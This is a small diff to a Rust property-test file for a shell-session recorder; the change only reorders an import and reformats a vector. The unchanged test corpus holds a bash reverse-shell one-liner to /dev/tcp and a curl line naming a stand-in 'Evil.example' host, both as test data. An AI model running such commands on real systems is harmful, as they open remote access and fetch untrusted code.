@@ -2,8 +2,8 @@
 
 use std::path::Path;
 
-use proptest::test_runner::{Config, RngSeed, TestRunner};
 use proptest::prelude::*;
+use proptest::test_runner::{Config, RngSeed, TestRunner};
 use shelltrail_core::Session;
 use shelltrail_core::sink::{Failure, RecordSink};
 
@@ -37,7 +37,10 @@ fn corpus() -> Vec<Session> {
     let reverse_shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
     let texts: Vec<Vec<(&str, &str)>> = vec![
         vec![("sudo id", "uid=0(root) gid=0(root)"), (reverse_shell, ""), ("cat big", &long)],
-        vec![("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger"), ("ls 2>&1 | grep x", "a1b2 12 123 1234 5.6.7")],
+        vec![
+            ("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger"),
+            ("ls 2>&1 | grep x", "a1b2 12 123 1234 5.6.7"),
+        ],
         vec![(&path, "404 | 10.20.30.40:8080 v1.2.3-rc4"), ("SUDO -i", "curl https://Evil.example/x.sh")],
         vec![],
     ];
